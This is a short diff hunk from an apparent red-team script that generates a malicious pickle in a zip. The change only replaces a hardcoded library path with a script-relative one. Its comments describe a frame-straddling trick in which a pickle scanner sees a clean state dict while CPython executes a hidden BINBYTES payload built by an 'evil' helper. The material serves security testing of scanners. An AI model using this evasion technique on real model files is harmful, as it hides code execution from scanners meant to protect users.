@@ -4,7 +4,7 @@
 # linearly, so from there on both see different opcodes: here the scanner sees a clean state dict with a
 # harmless BINBYTES, CPython executes the BINBYTES payload.
 # usage: python3 z2_frame_straddle.py OUT [print]
-import sys, struct, io, pickle, zipfile; sys.path.insert(0, '/tmp/redteam2/lib')
+import sys, struct, io, pickle, zipfile; import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib'))
 from zb import *; from common import *
 out = sys.argv[1]; harmless = len(sys.argv) > 2
 E = evil(harmless, proto=0)            # c builtins print ( X ... t R .
